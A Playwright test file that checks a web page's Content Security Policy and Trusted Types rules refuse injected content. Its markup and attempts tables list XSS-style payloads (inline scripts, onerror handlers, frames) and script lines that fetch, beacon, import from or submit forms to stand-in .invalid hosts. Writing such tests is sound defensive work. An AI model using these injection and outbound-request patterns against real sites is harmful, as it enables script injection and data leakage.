import type { Page } from '@playwright/test'
import { headersOf } from '../headers-file.ts'
import { expect, forgive, test } from './fixtures.ts'

// That browsers obey the pages' own policy, which test/dist/policy.test.ts reads. That the page does all it offers within it is
// tested by every other test: each fails where something was refused.

declare global {
  interface Window {
    /** The directives that refused something. */
    refused: string[]
  }
}

test('names in the header files no feature that a browser does not know', async ({ page }) => {
  await page.goto('./')
  const known = await page.evaluate<string[]>('document.featurePolicy.features()')
  const named = headersOf('/')['permissions-policy']?.match(/[\w-]+(?==)/g) ?? []
  expect(named).toContain('camera')
  expect(known).toEqual(expect.arrayContaining(named))
})

/** Notes what is refused; returns what is asked of other hosts all the same. */
async function noteRefusals(page: Page): Promise<readonly string[]> {
  await page.addInitScript(() => {
    window.ran = []
    window.refused = []
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
      window.refused.push(effectiveDirective),
    )
  })
  const asked: string[] = []
  await page.route(/\.invalid\//, (route) => {
    asked.push(route.request().url())
    return route.abort()
  })
  return asked
}

const refusals = (page: Page) => page.evaluate(() => window.refused)

/** Each is of its own kind; the directive is the one that has to refuse it. */
const markup: Readonly<Record<string, string>> = {
  'script-src-elem': '<script>ran.push(1)</script>',
  'script-src-attr': '<img src="data:," alt="" onerror="ran.push(2)">',
  'style-src-elem': '<style>body { display: none }</style>',
  'style-src-attr': '<p style="display: none">Text</p>',
  'img-src': '<img src="http://image.invalid/" alt="">',
  'frame-src': '<iframe src="http://frame.invalid/" title="Frame"></iframe>',
  'object-src': '<object data="http://object.invalid/"></object>',
  'media-src': '<video src="http://video.invalid/"></video>',
  'base-uri': '<base href="http://base.invalid/">',
}

test('injected markup runs no script, applies no style and loads nothing', {
  tag: '@core',
}, async ({ page, problems }) => {
  const asked = await noteRefusals(page)
  await page.route('./', async (route) => {
    const response = await route.fetch()
    const body = (await response.text()).replace(
      '<div id="root"',
      `${Object.values(markup).join('')}$&`,
    )
    await route.fulfill({ response, body })
  })
  await page.goto('./')
  for (const directive of Object.keys(markup)) {
    await expect.poll(() => refusals(page), directive).toContain(directive)
  }
  await expect(page.getByRole('heading', { level: 1 })).toBeVisible()
  await expect(page.getByText('Text', { exact: true })).toBeVisible()
  expect(await page.evaluate(() => window.ran)).toEqual([])
  expect(asked).toEqual([])
  forgive(problems)
})

/** What a script that got in might try next, and which directive has to refuse it. */
const attempts: Readonly<Record<string, readonly [directive: string, code: string]>> = {
  // Later, since what a test itself says is run in any case.
  'run a text': ['require-trusted-types-for', `setTimeout(() => eval('ran.push(1)'))`],
  'run a text later': ['require-trusted-types-for', `setTimeout(() => setTimeout('ran.push(2)'))`],
  'make elements of a text': [
    'require-trusted-types-for',
    `document.body.insertAdjacentHTML('beforeend', '<img alt="" src="data:," onerror="ran.push(3)">')`,
  ],
  'load a script whose address is a text': [
    'require-trusted-types-for',
    `document.createElement('script').src = './embed.js'`,
  ],
  'allow itself more': ['trusted-types', `trustedTypes.createPolicy('other', {})`],
  'import from another host': ['script-src-elem', `import('http://script.invalid/')`],
  'fetch from another host': ['connect-src', `fetch('http://fetch.invalid/')`],
  'tell another host': ['connect-src', `navigator.sendBeacon('http://beacon.invalid/')`],
  'send a form': [
    'form-action',
    `form = document.body.appendChild(document.createElement('form'))
     form.action = 'http://form.invalid/'
     form.submit()`,
  ],
}

test('lets a script do none of these', { tag: '@core' }, async ({ page, problems }) => {
  const asked = await noteRefusals(page)
  await page.goto('./')
  await expect(page.getByRole('heading', { level: 1 })).toBeVisible()
  for (const [what, [directive, code]] of Object.entries(attempts)) {
    const before = (await refusals(page)).length
    await page.evaluate(code).catch(() => undefined)
    const since = async () => (await refusals(page)).slice(before)
    await expect.poll(since, what).toContain(directive)
  }
  expect(await page.evaluate(() => window.ran)).toEqual([])
  expect(asked).toEqual([])
  forgive(problems)
})

test('page and card work when old headers block the head script', async ({ page, problems }) => {
  await page.route(/\/\?n=5/, async (route) => {
    const response = await route.fetch()
    const headers = { ...response.headers(), 'content-security-policy': "script-src 'self'" }
    await route.fulfill({ response, headers })
  })
  for (const [link, role] of [
    ['./?n=5', 'heading'],
    ['./?n=5&embed=1', 'article'],
  ] as const) {
    await page.goto(link)
    const sent = page.getByRole('textbox', { name: 'Viewer sends', exact: true })
    await expect(sent).toHaveValue('5')
    await sent.fill('7')
    await expect(page.getByRole('textbox', { name: 'Coins', exact: true })).toHaveValue('7')
    await expect(page.getByRole(role).first()).toBeVisible()
    await expect(page.getByRole('article')).toHaveCount(role === 'article' ? 1 : 0)
  }
  expect(problems.join()).toContain('inline')
  forgive(problems)
})

test.describe('without any script', () => {
  test.use({ javaScriptEnabled: false, viewport: { width: 390, height: 844 } })

  test('the bar has the shares of its parts', async ({ page }) => {
    await page.goto('./')
    const parts = page.getByRole('img', { name: /creator/i }).locator('> span')
    const boxes = await Promise.all((await parts.all()).map((part) => part.boundingBox()))
    const widths = boxes.map((box) => box?.width ?? 0)
    const whole = widths.reduce((sum, width) => sum + width, 0)
    expect(whole).toBeGreaterThan(300)
    // The store’s, TikTok’s and the creator’s.
    const shares = widths.map((width) => Math.round((width / whole) * 100))
    expect(shares).toEqual([30, 37, 33])
  })
})
